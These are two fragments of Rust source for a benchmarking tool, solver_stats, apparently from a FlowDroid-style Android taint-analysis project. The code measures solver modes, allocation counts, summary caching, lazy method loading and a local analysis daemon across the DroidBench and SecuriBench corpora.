            "      \"distinct_facts\": {},\n",
            "      \"distinct_aps\": {},\n",
            "      \"scheduler\": {},\n",
            "      \"fact_tables\": {},\n",
            "      \"summary_cache\": {},\n",
            "      \"report_identical_to_baseline\": {}\n",
            "    }}"
        ),
        m.name,
        m.threads,
        m.wall_ms,
        m.app_time_ms,
        m.dataflow_ms,
        m.setup_ms,
        m.forward_propagations,
        m.backward_propagations,
        m.bodies_materialized,
        m.bodies_skipped,
        m.leaks,
        m.allocations,
        count_json(m.distinct_facts),
        count_json(m.distinct_aps),
        scheduler_json(&m.scheduler),
        fact_tables_json(&m.fact_tables),
        summary_cache_json(&m.summary_cache),
        report_identical
    )
}

fn main() {
    let mut mode = "full".to_string();
    let mut out_path = "BENCH_solver.json".to_string();
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--mode" => match args.next() {
                Some(m) => mode = m,
                None => {
                    eprintln!("solver_stats: --mode needs a value (full|service)");
                    std::process::exit(1);
                }
            },
            other if other.starts_with('-') => {
                eprintln!(
                    "solver_stats: unknown option `{other}` \
                     (usage: solver_stats [--mode full|service] [output.json])"
                );
                std::process::exit(1);
            }
            other => out_path = other.to_string(),
        }
    }
    match mode.as_str() {
        "full" => run_full(&out_path),
        "service" => run_service(&out_path),
        other => {
            eprintln!("solver_stats: unknown mode `{other}` (expected full|service)");
            std::process::exit(1);
        }
    }
}

fn run_full(out_path: &str) {
    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
    let jobs = full_corpus();
    let droidbench = jobs.iter().filter(|j| j.name.starts_with("droidbench/")).count();
    let securibench = jobs.iter().filter(|j| j.name.starts_with("securibench/")).count();
    eprintln!(
        "corpus: {} apps ({droidbench} DroidBench, {securibench} SecuriBench, 1 InsecureBank)",
        jobs.len()
    );

    let direct = InfoflowConfig::default().with_fact_interning(false);
    let interned = InfoflowConfig::default();

    let mut modes = Vec::new();
    eprintln!("running sequential-direct (whole-fact keys) ...");
    modes.push(measure("sequential-direct", &jobs, &direct, 1));
    eprintln!("running sequential-interned (u32 fact ids, bitset tables) ...");
    modes.push(measure("sequential-interned", &jobs, &interned, 1));
    // The table-representation toggle: same id keys, nested hash maps
    // instead of bitset rows. What the bitset tables buy is the delta
    // between this row and sequential-interned.
    let interned_hash = InfoflowConfig::default().with_bitset_tables(false);
    eprintln!("running sequential-interned-hash (u32 fact ids, hash-map tables) ...");
    modes.push(measure("sequential-interned-hash", &jobs, &interned_hash, 1));
    for threads in [1usize, 2, 4, 8] {
        eprintln!("running parallel corpus driver with {threads} thread(s) ...");
        modes.push(measure(
            match threads {
                1 => "parallel-1",
                2 => "parallel-2",
                4 => "parallel-4",
                _ => "parallel-8",
            },
            &jobs,
            &interned,
            threads,
        ));
    }
    // The parallel *taint engine*: the corpus driver stays on one
    // worker so the measured scaling is the solver's own.
    let mut taint_configs = Vec::new();
    for threads in [1usize, 2, 4, 8] {
        taint_configs.push((
            match threads {
                1 => "parallel-taint-1",
                2 => "parallel-taint-2",
                4 => "parallel-taint-4",
                _ => "parallel-taint-8",
            },
            InfoflowConfig::default().with_taint_threads(threads),
        ));
    }
    for (name, config) in &taint_configs {
        eprintln!("running parallel taint engine ({name}) ...");
        modes.push(measure(name, &jobs, config, 1));
    }

    // The demand-driven frontend: each job clones the shared platform
    // snapshot and decodes only the method bodies the callgraph
    // closure reaches. Reports must stay byte-identical to eager
    // loading; the skipped-body count is what laziness bought.
    eprintln!("running demand-driven frontend (lazy bodies) ...");
    modes.push(measure("demand-lazy", &jobs, &interned.clone().with_lazy_frontend(true), 1));

    // The persistent summary store: a cold pass populates the cache,
    // the flush promotes it, and a warm pass replays the stored end
    // summaries instead of re-tabulating cacheable callees.
    let cache_dir =
        std::env::temp_dir().join(format!("flowdroid-solver-stats-cache-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&cache_dir);
    let cached = interned.clone().with_summary_cache(&cache_dir);
    eprintln!("running summary-cache cold pass ...");
    modes.push(measure("cache-cold", &jobs, &cached, 1));
    flowdroid_core::flush_summary_cache(&cache_dir).expect("flush summary cache");
    eprintln!("running summary-cache warm pass ...");
    modes.push(measure("cache-warm", &jobs, &cached, 1));
    let _ = std::fs::remove_dir_all(&cache_dir);

    let baseline_report = modes[0].report.clone();
    let reports_identical = modes.iter().all(|m| m.report == baseline_report);

    let direct_allocs = modes[0].allocations;
    let interned_allocs = modes[1].allocations;
    let alloc_reduction = if direct_allocs > 0 {
        1.0 - interned_allocs as f64 / direct_allocs as f64
    } else {
        0.0
    };
    let wall_1t = modes.iter().find(|m| m.name == "parallel-1").unwrap().wall_ms;
    let speedup = |name: &str| {
        let w = modes.iter().find(|m| m.name == name).unwrap().wall_ms;
        if w > 0.0 {
            wall_1t / w
        } else {
            0.0
        }
    };

    let mut json = String::new();
    writeln!(json, "{{").unwrap();
    writeln!(
        json,
        "  \"corpus\": {{ \"apps\": {}, \"droidbench\": {droidbench}, \"securibench\": {securibench} }},",
        jobs.len()
    )
    .unwrap();
    writeln!(json, "  \"available_cores\": {cores},").unwrap();
    writeln!(json, "  \"modes\": [").unwrap();
    for (i, m) in modes.iter().enumerate() {
        let sep = if i + 1 < modes.len() { "," } else { "" };
        writeln!(json, "{}{sep}", mode_json(m, m.report == baseline_report)).unwrap();
    }
    writeln!(json, "  ],").unwrap();
    writeln!(json, "  \"comparison\": {{").unwrap();
    writeln!(json, "    \"direct_allocations\": {direct_allocs},").unwrap();
    writeln!(json, "    \"interned_allocations\": {interned_allocs},").unwrap();
    writeln!(json, "    \"interning_alloc_reduction\": {alloc_reduction:.4},").unwrap();
    writeln!(
        json,
        "    \"interning_strictly_fewer_allocations\": {},",
        interned_allocs < direct_allocs
    )
    .unwrap();
    let mode_by = |name: &str| modes.iter().find(|m| m.name == name).unwrap();
    let bitset_mode = mode_by("sequential-interned");
    let hash_mode = mode_by("sequential-interned-hash");
    writeln!(json, "    \"hash_table_allocations\": {},", hash_mode.allocations).unwrap();
    writeln!(json, "    \"bitset_table_allocations\": {},", bitset_mode.allocations).unwrap();
    writeln!(
        json,
        "    \"bitset_strictly_fewer_allocations\": {},",
        bitset_mode.allocations < hash_mode.allocations
    )
    .unwrap();
    writeln!(json, "    \"hash_table_dataflow_ms\": {:.3},", hash_mode.dataflow_ms).unwrap();
    writeln!(json, "    \"bitset_table_dataflow_ms\": {:.3},", bitset_mode.dataflow_ms).unwrap();
    writeln!(json, "    \"speedup_2t\": {:.3},", speedup("parallel-2")).unwrap();
    writeln!(json, "    \"speedup_4t\": {:.3},", speedup("parallel-4")).unwrap();
    writeln!(json, "    \"speedup_8t\": {:.3},", speedup("parallel-8")).unwrap();
    let dataflow_of = |name: &str| modes.iter().find(|m| m.name == name).unwrap().dataflow_ms;
    let seq_df = dataflow_of("sequential-interned");
    let taint_1t_df = dataflow_of("parallel-taint-1");
    let taint_speedup = |name: &str| {
        let w = dataflow_of(name);
        if w > 0.0 {
            taint_1t_df / w
        } else {
            0.0
        }
    };
    writeln!(json, "    \"taint_1t_dataflow_ms\": {taint_1t_df:.3},").unwrap();
    writeln!(json, "    \"sequential_dataflow_ms\": {seq_df:.3},").unwrap();
    writeln!(
        json,
        "    \"taint_1t_vs_sequential\": {:.3},",
        if seq_df > 0.0 { taint_1t_df / seq_df } else { 0.0 }
    )
    .unwrap();
    writeln!(json, "    \"taint_speedup_2t\": {:.3},", taint_speedup("parallel-taint-2")).unwrap();
    writeln!(json, "    \"taint_speedup_4t\": {:.3},", taint_speedup("parallel-taint-4")).unwrap();
    writeln!(json, "    \"taint_speedup_8t\": {:.3},", taint_speedup("parallel-taint-8")).unwrap();
    let mode_of = |name: &str| modes.iter().find(|m| m.name == name).unwrap();
    let (cold, warm) = (mode_of("cache-cold"), mode_of("cache-warm"));
    let cold_edges = cold.forward_propagations + cold.backward_propagations;
    let warm_edges = warm.forward_propagations + warm.backward_propagations;
    let edges_saved = cold_edges.saturating_sub(warm_edges);
    let warm_stats = warm.summary_cache.clone().unwrap_or_default();
    let warm_lookups = warm_stats.hits + warm_stats.misses + warm_stats.stale;
    writeln!(json, "    \"cache_cold_path_edges\": {cold_edges},").unwrap();
    writeln!(json, "    \"cache_warm_path_edges\": {warm_edges},").unwrap();
    writeln!(json, "    \"cache_path_edges_saved\": {edges_saved},").unwrap();
    writeln!(json, "    \"cache_warm_hits\": {},", warm_stats.hits).unwrap();
    writeln!(
        json,
        "    \"cache_warm_hit_rate\": {:.4},",
        if warm_lookups > 0 { warm_stats.hits as f64 / warm_lookups as f64 } else { 0.0 }
    )
    .unwrap();
    writeln!(json, "    \"cache_dataflow_ms_cold\": {:.3},", cold.dataflow_ms).unwrap();
    writeln!(json, "    \"cache_dataflow_ms_warm\": {:.3},", warm.dataflow_ms).unwrap();
    let lazy = mode_of("demand-lazy");
    writeln!(json, "    \"lazy_bodies_materialized\": {},", lazy.bodies_materialized).unwrap();
    writeln!(json, "    \"lazy_bodies_skipped\": {},", lazy.bodies_skipped).unwrap();
    writeln!(json, "    \"lazy_setup_ms\": {:.3},", lazy.setup_ms).unwrap();
    writeln!(
        json,
        "    \"lazy_report_identical\": {},",
        lazy.report == baseline_report
    )
    .unwrap();
    if cores < 2 {
        // Wall-clock speedup needs real hardware parallelism; on a
        // single core the measurement degenerates to pool overhead
        // (a speedup ~1.0 then means the fan-out costs nothing).
        writeln!(
            json,
            "    \"speedup_note\": \"only {cores} core(s) available; speedups bound by hardware\","
        )
        .unwrap();
    }
    writeln!(json, "    \"reports_identical\": {reports_identical}").unwrap();
    writeln!(json, "  }}").unwrap();
    writeln!(json, "}}").unwrap();

    std::fs::write(&out_path, &json).expect("write BENCH_solver.json");
    println!("{json}");
    eprintln!("wrote {out_path}");

    if !reports_identical {
        eprintln!("FAIL: leak reports diverged across modes/thread counts");
        std::process::exit(1);
    }
    if warm_stats.hits == 0 {
        eprintln!("FAIL: warm summary-cache pass produced no hits");
        std::process::exit(1);
    }
    if edges_saved == 0 {
        eprintln!(
            "FAIL: warm pass saved no path edges (cold {cold_edges}, warm {warm_edges})"
        );
        std::process::exit(1);
    }
    if lazy.bodies_skipped == 0 {
        eprintln!(
            "FAIL: demand-lazy mode decoded every body ({} materialized, 0 skipped)",
            lazy.bodies_materialized
        );
        std::process::exit(1);
    }
    // Since access-path field sequences moved into the global arena,
    // whole-fact keys are `Copy` and the direct mode no longer pays
    // per-propagation allocations — fact interning is now about compact
    // `u32` table keys, not allocation avoidance. Guard against the
    // interner itself becoming an allocation burden instead.
    if interned_allocs as f64 > direct_allocs as f64 * 1.05 {
        eprintln!(
            "FAIL: interned mode allocates >5% more than direct ({interned_allocs} vs {direct_allocs})"
        );
        std::process::exit(1);
    }
    // Bitset rows replace the per-(statement, fact) hash sets; if they
    // ever stop being strictly cheaper than the hash-map tables the
    // representation has regressed.
    let (bitset_allocs, hash_allocs) = {
        let get = |name: &str| modes.iter().find(|m| m.name == name).unwrap().allocations;
        (get("sequential-interned"), get("sequential-interned-hash"))
    };
    if bitset_allocs >= hash_allocs {
        eprintln!(
            "FAIL: bitset tables allocate no less than hash-map tables \
             ({bitset_allocs} vs {hash_allocs})"
        );
        std::process::exit(1);
    }
}

/// Benchmarks the daemon: binds it in-process on an ephemeral port,
/// submits the whole corpus twice (cold, then warm against the shared
/// summary cache) with one connection per job so jobs genuinely queue,
/// and splices the per-job wall/queue times into `out_path`.
fn run_service(out_path: &str) {
    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
    let workers = cores.clamp(1, 4);
    let names: Vec<String> = full_corpus().into_iter().map(|j| j.name).collect();
    let cache = std::env::temp_dir()
        .join(format!("flowdroid-solver-stats-service-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&cache);

    // Boot the daemon from a platform snapshot file, the deployment
    // configuration the benchmark is meant to measure.
    let snap_path = std::env::temp_dir()
        .join(format!("flowdroid-solver-stats-platform-{}.fdps", std::process::id()));
    flowdroid_android::save_snapshot(&snap_path, &flowdroid_android::build_snapshot())
        .expect("save platform snapshot");

    let daemon = Daemon::bind(DaemonOptions {
        listen: Listen::parse("127.0.0.1:0"),
        workers,
        summary_cache: Some(cache.clone()),
        platform_snapshot: Some(snap_path.clone()),
    })
    .expect("bind daemon");
    let addr = daemon.local_addr().to_string();
    let accept_loop = std::thread::spawn(move || daemon.run().expect("daemon run"));

    // One connection per job: the protocol delivers a job's result on
    // the connection that submitted it, so separate connections let
    // every job sit in the queue at once and the recorded queue-wait
    // times are real contention, not client-side serialization.
    let run_pass = |pass: &str| -> Vec<(String, JobResult)> {
        eprintln!("service: {pass} pass ({} jobs on {workers} workers) ...", names.len());
        let mut pending = Vec::new();
        for name in &names {
            let mut c = Client::connect(&addr).expect("connect");
            c.analyze_async(name, None, None, None).expect("submit");
            pending.push((name.clone(), c));
        }
        pending
            .into_iter()
            .map(|(name, mut c)| {
                let line = c.read_response().expect("result line");
                let r = JobResult::from_json(&line).expect("well-formed result");
                (name, r)
            })
            .collect()
    };
    let cold = run_pass("cold");
    let warm = run_pass("warm");

    let mut ctl = Client::connect(&addr).expect("control connection");
    let stats = ctl.stats().expect("stats");
    ctl.shutdown().expect("shutdown");
    accept_loop.join().expect("accept loop exits cleanly");
    let _ = std::fs::remove_dir_all(&cache);
    let _ = std::fs::remove_file(&snap_path);

    let aborted = cold.iter().chain(&warm).filter(|(_, r)| r.aborted).count();
    let reports_identical = cold
        .iter()
        .zip(&warm)
        .all(|((_, c), (_, w))| c.report == w.report);
    let warm_hits: u64 = warm.iter().map(|(_, r)| r.summary_hits).sum();
    let total =
        |pass: &[(String, JobResult)], f: fn(&JobResult) -> u64| -> u64 {
            pass.iter().map(|(_, r)| f(r)).sum()
        };
    let peak = |pass: &[(String, JobResult)], f: fn(&JobResult) -> u64| -> u64 {
        pass.iter().map(|(_, r)| f(r)).max().unwrap_or(0)
    };

    let warm_setup_us = total(&warm, |r| r.setup_us);
    let warm_dataflow_us = total(&warm, |r| r.dataflow_us);
    // The "warm job wall time ≈ dataflow time" claim is gated on the
    // substantial app: micro benchmark apps finish their data-flow in
    // tens of microseconds, below any per-job call-graph cost, so an
    // aggregate would only measure corpus composition.
    let warm_bank = warm
        .iter()
        .find(|(name, _)| name == "insecurebank")
        .map(|(_, r)| (r.setup_us, r.dataflow_us))
        .expect("insecurebank is in the corpus");
    let bodies_materialized = total(&cold, |r| r.bodies_materialized)
        + total(&warm, |r| r.bodies_materialized);
    let bodies_skipped =
        total(&cold, |r| r.bodies_skipped) + total(&warm, |r| r.bodies_skipped);
    let cold_setup_us = total(&cold, |r| r.setup_us);
    let cold_cg_misses = total(&cold, |r| r.callgraph_cache_misses);
    let warm_cg_hits = total(&warm, |r| r.callgraph_cache_hits);
    let cold_clone_us = total(&cold, |r| r.platform_clone_us);
    let warm_clone_us = total(&warm, |r| r.platform_clone_us);
    let cg_evictions = stats.u64_field("callgraph_cache_evictions").unwrap_or(0);
    let snapshot_load_ms = stats.u64_field("snapshot_load_ms").unwrap_or(0);
    let snapshot_source = stats.str_field("snapshot_source").unwrap_or("unknown").to_string();

    let mut section = String::new();
    writeln!(section, "{{").unwrap();
    writeln!(section, "    \"workers\": {workers},").unwrap();
    writeln!(section, "    \"jobs_per_pass\": {},", names.len()).unwrap();
    writeln!(section, "    \"completed\": {},", stats.u64_field("completed").unwrap_or(0)).unwrap();
    writeln!(section, "    \"snapshot_load_ms\": {snapshot_load_ms},").unwrap();
    writeln!(section, "    \"snapshot_source\": \"{snapshot_source}\",").unwrap();
    writeln!(section, "    \"cold_wall_ms_total\": {},", total(&cold, |r| r.wall_ms)).unwrap();
    writeln!(section, "    \"warm_wall_ms_total\": {},", total(&warm, |r| r.wall_ms)).unwrap();
    writeln!(section, "    \"cold_queue_ms_max\": {},", peak(&cold, |r| r.queue_ms)).unwrap();
    writeln!(section, "    \"warm_queue_ms_max\": {},", peak(&warm, |r| r.queue_ms)).unwrap();
    writeln!(section, "    \"cold_setup_us_total\": {cold_setup_us},").unwrap();
    writeln!(section, "    \"cold_dataflow_us_total\": {},", total(&cold, |r| r.dataflow_us))
        .unwrap();
    writeln!(section, "    \"warm_setup_us_total\": {warm_setup_us},").unwrap();
    writeln!(section, "    \"warm_dataflow_us_total\": {warm_dataflow_us},").unwrap();
    writeln!(section, "    \"warm_insecurebank_setup_us\": {},", warm_bank.0).unwrap();
    writeln!(section, "    \"warm_insecurebank_dataflow_us\": {},", warm_bank.1).unwrap();
    writeln!(
        section,
        "    \"warm_setup_below_dataflow\": {},",
        warm_bank.0 <= warm_bank.1
    )
    .unwrap();
    writeln!(section, "    \"bodies_materialized_total\": {bodies_materialized},").unwrap();
    writeln!(section, "    \"bodies_skipped_total\": {bodies_skipped},").unwrap();
    writeln!(section, "    \"warm_summary_hits\": {warm_hits},").unwrap();
    writeln!(section, "    \"cold_callgraph_misses\": {cold_cg_misses},").unwrap();
    writeln!(section, "    \"warm_callgraph_hits\": {warm_cg_hits},").unwrap();
    writeln!(section, "    \"callgraph_cache_evictions\": {cg_evictions},").unwrap();
    writeln!(section, "    \"cold_platform_clone_us_total\": {cold_clone_us},").unwrap();
    writeln!(section, "    \"warm_platform_clone_us_total\": {warm_clone_us},").unwrap();
    writeln!(
        section,
        "    \"warm_setup_below_cold\": {},",
        warm_setup_us < cold_setup_us
    )
    .unwrap();
    writeln!(section, "    \"reports_identical\": {reports_identical},").unwrap();
    writeln!(section, "    \"jobs\": [").unwrap();
    let entries: Vec<String> = cold
        .iter()
        .map(|j| ("cold", j))
        .chain(warm.iter().map(|j| ("warm", j)))
        .map(|(pass, (name, r))| {
            format!(
                concat!(
                    "      {{ \"app\": \"{}\", \"pass\": \"{}\", \"wall_ms\": {}, ",
                    "\"queue_ms\": {}, \"setup_us\": {}, \"dataflow_us\": {}, ",
                    "\"bodies_materialized\": {}, \"bodies_skipped\": {}, ",
                    "\"summary_hits\": {}, \"platform_clone_us\": {}, ",
                    "\"callgraph_cache_hits\": {} }}"
                ),
                name,
                pass,
                r.wall_ms,
                r.queue_ms,
                r.setup_us,
                r.dataflow_us,
                r.bodies_materialized,
                r.bodies_skipped,
                r.summary_hits,
                r.platform_clone_us,
                r.callgraph_cache_hits
            )
        })
        .collect();
    writeln!(section, "{}", entries.join(",\n")).unwrap();
    writeln!(section, "    ]").unwrap();
    write!(section, "  }}").unwrap();

    let json = splice_service_section(out_path, &section, &names, cores);
    std::fs::write(out_path, &json).expect("write service benchmark");
    eprintln!("wrote {out_path} (service section)");
    eprintln!(
        "service: {} jobs/pass, warm hits {warm_hits}, max cold queue wait {} ms",
        names.len(),
        peak(&cold, |r| r.queue_ms)
    );

    if aborted > 0 {
        eprintln!("FAIL: {aborted} service job(s) aborted without a deadline or budget");
        std::process::exit(1);
    }
    if !reports_identical {
        eprintln!("FAIL: warm-pass reports diverged from the cold pass");
        std::process::exit(1);
    }
    if warm_hits == 0 {
        eprintln!("FAIL: warm pass replayed no summaries from the shared cache");
        std::process::exit(1);
    }
    if snapshot_source != "file" {
        eprintln!("FAIL: daemon did not boot from the saved platform snapshot");
        std::process::exit(1);
    }
    if bodies_skipped == 0 {
        eprintln!("FAIL: the daemon's lazy frontend decoded every method body");
        std::process::exit(1);
    }
    if warm_bank.0 > warm_bank.1 {
        eprintln!(
            "FAIL: warm insecurebank job spent more time in setup ({} us) than in the \
             data-flow solver ({} us)",
            warm_bank.0, warm_bank.1
        );
        std::process::exit(1);
    }
    if warm_cg_hits == 0 {
        eprintln!("FAIL: warm pass replayed no cached callgraph setups");
        std::process::exit(1);
    }
    if warm_setup_us >= cold_setup_us {
        eprintln!(
            "FAIL: warm pass setup ({warm_setup_us} us) is not below the cold pass \
             ({cold_setup_us} us) despite the callgraph cache"
        );
        std::process::exit(1);
    }
}

/// Splices `section` into `out_path` as a final `"service"` key. When
/// the file already holds a full-mode document its sections (including
/// `available_cores`) are kept and any previous service section is
/// replaced; otherwise a minimal standalone document is written.
fn splice_service_section(
    out_path: &str,
    section: &str,
    names: &[String],
    cores: usize,
) -> String {
    match std::fs::read_to_string(out_path) {
        Ok(mut doc) => {
            if let Some(i) = doc.find(",\n  \"service\":") {
                // The service section is always appended last: cut it
                // (and the closing brace it carries) before re-adding.
                doc.truncate(i);
            } else {
                let end = doc.trim_end().len();
                assert!(
                    doc[..end].ends_with('}'),
                    "{out_path} does not look like a solver_stats document"
                );
                doc.truncate(end - 1);
                doc.truncate(doc.trim_end().len());
            }
            format!("{doc},\n  \"service\": {section}\n}}\n")
        }
        Err(_) => format!(
            "{{\n  \"corpus\": {{ \"apps\": {} }},\n  \"available_cores\": {cores},\n  \"service\": {section}\n}}\n",
            names.len()
        ),
    }
}
