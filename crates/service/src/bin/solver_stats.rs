//! Emits `BENCH_solver.json`: solver performance across four mode
//! families — sequential with whole-fact keys, sequential with
//! interned `u32` keys (the default), the parallel corpus driver at
//! 1/2/4/8 threads, and the parallel *taint engine* (work-stealing
//! bidirectional solver) at 1/2/4/8 workers — over the full
//! DroidBench + SecuriBench corpus. Parallel-taint modes report the
//! scheduler counters (pushes, steals, claims, shard occupancy).
//!
//! Heap allocations are counted with a wrapping global allocator, so
//! the interned-vs-direct comparison measures exactly what interning
//! buys. Leak reports are compared byte-for-byte across every mode;
//! the binary exits non-zero if any run diverges.
//!
//! The `demand-lazy` mode runs the corpus through the demand-driven
//! frontend (platform snapshot clone + lazy method bodies); its report
//! is compared byte-for-byte against the eager baseline and the run
//! must skip at least one method body, or the binary exits non-zero.
//!
//! `--mode service` benchmarks the analysis *daemon* instead: it
//! saves a `platform.fdps` snapshot, binds an in-process daemon on an
//! ephemeral port that boots from it, floods it with the whole corpus
//! twice (cold then warm against one shared summary cache), and
//! records per-job wall-clock, queue-wait and setup/dataflow split
//! times as a `"service"` section spliced into the same output file
//! (the `available_cores` field and the solver-mode sections are
//! kept). The warm insecurebank job must spend no more time in setup
//! than in the data-flow solver, and the lazy frontend must skip at
//! least one method body, or the binary exits non-zero.
//!
//! `--mode service-load` drives the daemon the way a fleet does: it
//! attributes warm starts to each storage tier (memory LRU → local
//! store file → content-addressed chunks) by evicting tiers between
//! jobs, proves cache-namespace isolation, floods a single-worker
//! daemon with mixed-priority traffic to compare high- vs
//! batch-priority latency percentiles, overloads a capped queue until
//! submissions bounce with `rejected` backpressure, runs a cancel
//! storm, and replays the corpus with `--stream`-style streaming at 1
//! and 4 taint threads to prove the streamed final report is
//! byte-identical to the non-streamed one. Results land in a
//! `"service_load"` section of the same output file; the binary exits
//! non-zero if any tier records no warm hit, a foreign namespace sees
//! another tenant's summaries, high-priority p99 does not beat batch
//! p99, the overloaded queue rejects nothing, the storm leaves jobs
//! undrained, or any streamed report diverges.
//!
//! `--mode ground-truth` runs the seeded synthetic corpus from
//! `flowdroid-truth` instead of the benchmark corpus: it sweeps every
//! engine configuration (solver × table layout × frontend × cache
//! temperature) over the generated apps, scores the reference engine
//! per category against each app's ground-truth manifest, probes the
//! access-path k-limit on the widening chains, re-checks the ICC pairs
//! in linked mode, and round-trips every packed `.rpk` through an
//! in-process daemon under the `--allow-apps` path policy (including a
//! denied-path probe). Results land in a `"ground_truth"` section of
//! the same output file; the binary exits non-zero on any pairwise
//! report divergence, manifest drift, constructive-corpus imprecision,
//! missed k-limit trip, ICC mismatch, daemon/local report mismatch, or
//! policy failure.
//!
//! Usage: `solver_stats [--mode full|service|service-load|ground-truth]
//! [output.json]` (default mode `full`, default output
//! `BENCH_solver.json`).

use flowdroid_bench::driver::{corpus_report, full_corpus, run_corpus, CorpusJob, CorpusRun};
use flowdroid_core::{InfoflowConfig, SchedulerStats, SummaryCacheStats, TableStats};
use flowdroid_service::{Client, Daemon, DaemonOptions, JobResult, Listen};
use std::alloc::{GlobalAlloc, Layout, System};
use std::fmt::Write as _;
use std::sync::atomic::{AtomicU64, Ordering};

/// Counts every allocation (and reallocation) made through the global
/// allocator. `Relaxed` is fine: the counter is read only between
/// runs, after all worker threads have joined.
struct CountingAlloc;

static ALLOCATIONS: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        System.alloc(layout)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        System.realloc(ptr, layout, new_size)
    }
}

#[global_allocator]
static ALLOC: CountingAlloc = CountingAlloc;

struct ModeStats {
    name: &'static str,
    threads: usize,
    wall_ms: f64,
    app_time_ms: f64,
    dataflow_ms: f64,
    setup_ms: f64,
    forward_propagations: u64,
    backward_propagations: u64,
    bodies_materialized: u64,
    bodies_skipped: u64,
    leaks: usize,
    allocations: u64,
    distinct_facts: usize,
    distinct_aps: usize,
    scheduler: Option<SchedulerStats>,
    fact_tables: Option<TableStats>,
    summary_cache: Option<SummaryCacheStats>,
    report: String,
}

fn ms(d: std::time::Duration) -> f64 {
    d.as_secs_f64() * 1e3
}

fn measure(
    name: &'static str,
    jobs: &[CorpusJob],
    config: &InfoflowConfig,
    threads: usize,
) -> ModeStats {
    ALLOCATIONS.store(0, Ordering::Relaxed);
    let run: CorpusRun = run_corpus(jobs, config, threads);
    let allocations = ALLOCATIONS.load(Ordering::Relaxed);
    let (fw, bw) = run.total_propagations();
    let (materialized, skipped) = run.total_bodies();
    let app_time = run.total_app_time();
    let dataflow = run.total_dataflow_time();
    ModeStats {
        name,
        threads,
        wall_ms: ms(run.wall),
        app_time_ms: ms(app_time),
        dataflow_ms: ms(dataflow),
        setup_ms: ms(app_time.saturating_sub(dataflow)),
        forward_propagations: fw,
        backward_propagations: bw,
        bodies_materialized: materialized,
        bodies_skipped: skipped,
        leaks: run.total_leaks(),
        allocations,
        distinct_facts: run.total_distinct_facts(),
        distinct_aps: run.total_distinct_aps(),
        scheduler: run.scheduler_totals(),
        fact_tables: run.fact_table_totals(),
        summary_cache: run.summary_cache_totals(),
        report: corpus_report(&run),
    }
}

fn summary_cache_json(s: &Option<SummaryCacheStats>) -> String {
    match s {
        None => "null".to_string(),
        Some(s) => format!(
            concat!(
                "{{ \"hits\": {}, \"misses\": {}, \"stale\": {}, ",
                "\"store_methods\": {}, \"recorded\": {} }}"
            ),
            s.hits, s.misses, s.stale, s.store_methods, s.recorded
        ),
    }
}

fn scheduler_json(s: &Option<SchedulerStats>) -> String {
    match s {
        None => "null".to_string(),
        Some(s) => format!(
            concat!(
                "{{ \"shards\": {}, \"pushed\": {}, \"steals\": {}, \"claims\": {}, ",
                "\"occupied_shards\": {}, \"max_shard_pushes\": {} }}"
            ),
            s.shards,
            s.pushed,
            s.steals,
            s.claims,
            s.occupied_shards(),
            s.max_shard_pushes()
        ),
    }
}

fn fact_tables_json(s: &Option<TableStats>) -> String {
    match s {
        None => "null".to_string(),
        Some(t) => format!(
            concat!(
                "{{ \"rows\": {}, \"sparse_rows\": {}, \"dense_rows\": {}, ",
                "\"dense_words\": {}, \"widened_facts\": {} }}"
            ),
            t.rows, t.sparse_rows, t.dense_rows, t.dense_words, t.widened_facts
        ),
    }
}

/// Interning counters as JSON: `null` when untracked (interning off —
/// the interner always holds at least the zero fact when it runs, so
/// `0` can only mean "not measured" and is reported as such).
fn count_json(n: usize) -> String {
    if n == 0 {
        "null".to_string()
    } else {
        n.to_string()
    }
}

fn mode_json(m: &ModeStats, report_identical: bool) -> String {
    format!(
        concat!(
            "    {{\n",
            "      \"mode\": \"{}\",\n",
            "      \"threads\": {},\n",
            "      \"wall_ms\": {:.3},\n",
            "      \"app_time_ms\": {:.3},\n",
            "      \"dataflow_ms\": {:.3},\n",
            "      \"setup_ms\": {:.3},\n",
            "      \"forward_propagations\": {},\n",
            "      \"backward_propagations\": {},\n",
            "      \"bodies_materialized\": {},\n",
            "      \"bodies_skipped\": {},\n",
            "      \"leaks\": {},\n",
            "      \"allocations\": {},\n",
            "      \"distinct_facts\": {},\n",
            "      \"distinct_aps\": {},\n",
            "      \"scheduler\": {},\n",
            "      \"fact_tables\": {},\n",
            "      \"summary_cache\": {},\n",
            "      \"report_identical_to_baseline\": {}\n",
            "    }}"
        ),
        m.name,
        m.threads,
        m.wall_ms,
        m.app_time_ms,
        m.dataflow_ms,
        m.setup_ms,
        m.forward_propagations,
        m.backward_propagations,
        m.bodies_materialized,
        m.bodies_skipped,
        m.leaks,
        m.allocations,
        count_json(m.distinct_facts),
        count_json(m.distinct_aps),
        scheduler_json(&m.scheduler),
        fact_tables_json(&m.fact_tables),
        summary_cache_json(&m.summary_cache),
        report_identical
    )
}

fn main() {
    let mut mode = "full".to_string();
    let mut out_path = "BENCH_solver.json".to_string();
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--mode" => match args.next() {
                Some(m) => mode = m,
                None => {
                    eprintln!(
                        "solver_stats: --mode needs a value \
                         (full|service|service-load|ground-truth)"
                    );
                    std::process::exit(1);
                }
            },
            other if other.starts_with('-') => {
                eprintln!(
                    "solver_stats: unknown option `{other}` (usage: solver_stats \
                     [--mode full|service|service-load|ground-truth] [output.json])"
                );
                std::process::exit(1);
            }
            other => out_path = other.to_string(),
        }
    }
    match mode.as_str() {
        "full" => run_full(&out_path),
        "service" => run_service(&out_path),
        "service-load" => run_service_load(&out_path),
        "ground-truth" => run_ground_truth(&out_path),
        other => {
            eprintln!(
                "solver_stats: unknown mode `{other}` \
                 (expected full|service|service-load|ground-truth)"
            );
            std::process::exit(1);
        }
    }
}

fn run_full(out_path: &str) {
